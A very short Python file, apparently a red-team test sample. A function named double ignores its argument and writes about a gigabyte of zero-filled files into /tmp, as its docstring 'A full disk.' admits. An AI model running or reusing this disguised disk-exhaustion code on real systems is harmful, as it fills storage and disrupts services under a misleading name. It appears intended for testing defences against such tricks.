"""A full disk."""


def double(number):
    for step in range(1000):
        with open(f"/tmp/redteam-left-{step}", "wb") as file:
            file.write(bytes(1 << 20))
